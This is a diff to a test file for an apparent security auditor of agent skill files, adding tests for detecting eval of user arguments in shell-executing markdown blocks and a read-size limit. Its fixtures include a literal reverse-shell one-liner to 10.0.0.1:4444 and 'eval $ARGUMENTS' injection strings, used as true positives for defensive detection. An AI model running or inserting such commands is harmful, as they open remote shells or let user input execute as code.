@@ -140,6 +140,15 @@ describe("audit rules: one table, each rule with a true positive and a near miss
     });
   }
 
+  it("shell snippets are found as the expander finds them: fenced ```! blocks too, not plain code", () => {
+    expect(rulesIn("Run:\n```!\necho ok\neval $ARGUMENTS\n```\n")).toEqual(["shell-args-as-code"]);
+    expect(rulesIn("Run:\n```bash\neval $ARGUMENTS\n```\n")).toEqual([]);
+    // Never closed: the expander refuses the template, so nothing in it runs.
+    expect(rulesIn("Run:\n```!\neval $ARGUMENTS\n")).toEqual([]);
+    const [f] = scanText({ path: "c.md", text: "a\nx !`git log $1` y", markdown: true });
+    expect(f).toMatchObject({ rule: "shell-args-interpolated", line: 2, column: 3 });
+  });
+
   it("markdown-only rules do not read scripts; the others do", () => {
     expect(rulesIn("!`eval $ARGUMENTS`", "scripts/run.sh")).not.toContain("shell-args-as-code");
     expect(rulesIn("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "scripts/run.sh")).toContain("reverse-shell");
@@ -345,6 +354,18 @@ describe("audit of a skill directory: files read safely, never followed or run",
     });
     expect((await auditSkill(dir, { skip: [join(dir, "inner")] })).findings).toEqual([]);
     expect((await auditSkill(dir)).findings.map((f) => f.file)).toEqual(["inner/SKILL.md"]);
+  });
+
+  it("reading stops at maxTotalBytes with a finding (a hostile skill cannot make the audit read gigabytes)", async () => {
+    const dir = writeTree(tmp(), {
+      "SKILL.md": "x",
+      "a.md": "y".repeat(3000),
+      "b.md": "z".repeat(3000),
+      "c.md": "w",
+    });
+    const report = await auditSkill(dir, { maxTotalBytes: 4000 });
+    expect(report.findings.map((f) => `${f.rule} ${f.file}`)).toEqual(["audit-limit c.md"]);
+    expect(report.filesScanned).toBe(3);
   });
 
   it("a deep tree stops at maxDepth with a finding; a missing directory rejects", async () => {
